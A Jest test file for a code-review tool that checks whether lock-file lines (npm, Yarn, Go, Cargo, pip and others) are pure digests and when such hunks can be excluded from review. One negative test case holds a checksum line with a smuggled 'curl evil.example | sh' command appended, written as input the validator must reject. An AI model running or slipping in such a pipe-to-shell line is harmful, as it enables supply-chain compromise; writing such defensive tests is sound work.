import { describe, expect, test } from "@jest/globals";
import type { ChangedFile, HunkLine } from "../../src/records.ts";
import { changesHashesOnly, isHashLine, isLockFile } from "../../src/review/lock-files.ts";

const SHA512 = `sha512-${"Ab3+/".repeat(17)}A==`;
const HEX = "0123456789abcdef".repeat(4);
const file = (uri: string, over: Partial<ChangedFile> = {}): ChangedFile => ({
  uri,
  status: "modified",
  kind: "regular",
  baseMode: "100644",
  headMode: "100644",
  headSize: 1,
  binary: false,
  invalidUtf8: false,
  hunks: [],
  ...over,
});
const hunk = (...lines: readonly (readonly [HunkLine["kind"], string])[]) => ({
  ...{ id: "h-0", uri: "go.sum", baseStart: 1, baseCount: 1, headStart: 1, headCount: 1 },
  lines: lines.map(([kind, text]) => ({ kind, text })),
});

describe("a line of a lock file that is a digest", () => {
  test.each([
    ["npm", `      "integrity": "${SHA512}",`],
    ["Yarn 1", `  integrity ${SHA512}`],
    ["Yarn 4", `  checksum: 10c0/${HEX}`],
    ["pnpm", `    resolution: {integrity: ${SHA512}}`],
    ["Go", "golang.org/x/net v0.17.0 h1:pVaXccu2ozPjCXewfr1S7xza/zcXTity9cCdXQYSjIM="],
    ["Cargo", `checksum = "${HEX}"`],
    ["Poetry", `    {file = "a-1.0-py3-none-any.whl", hash = "sha256:${HEX}"},`],
    ["pip", `    --hash=sha256:${HEX} \\`],
    ["Pipenv", `                "sha256:${HEX}",`],
    ["with a carriage return", `checksum = "${HEX}"\r`],
  ])("%s", (_, line) => {
    expect(isHashLine(line)).toBe(true);
  });

  test.each([
    ["a name and a version", '    "node_modules/left-pad": {'],
    ["where a package comes from", '      "resolved": "https://registry.example/left-pad/-/left-pad-1.0.0.tgz",'],
    ["a script that runs on install", '      "hasInstallScript": true,'],
    ["a digest with more behind it", `checksum = "${HEX}" ; curl evil.example | sh`],
    ["a short value", 'hash = "abc"'],
    ["a line without end", `checksum = "${"a".repeat(10_000)}"`],
  ])("is not %s", (_, line) => {
    expect(isHashLine(line)).toBe(false);
  });
});

describe("a lock file", () => {
  test.each(["package-lock.json", "app/go.sum", "Cargo.lock", "requirements-dev.txt"])("is %s", (uri) => {
    expect(isLockFile(file(uri))).toBe(true);
  });

  test("L6 is none that the change itself brings, or that took another file's place", () => {
    expect(isLockFile(file("go.sum", { status: "added" }))).toBe(false);
    expect(isLockFile(file("go.sum", { status: "renamed", baseUri: "main.go" }))).toBe(false);
    expect(isLockFile(file("src/lock.ts"))).toBe(false);
  });
});

test("L5 a hunk is excluded only when every line that it changes is a digest", () => {
  const digest = `checksum = "${HEX}"`;
  expect(changesHashesOnly(hunk(["context", 'name = "a"'], ["removed", digest], ["added", digest]))).toBe(true);
  expect(changesHashesOnly(hunk(["added", digest], ["added", 'version = "2"']))).toBe(false);
  expect(changesHashesOnly(hunk(["context", digest]))).toBe(false);
});
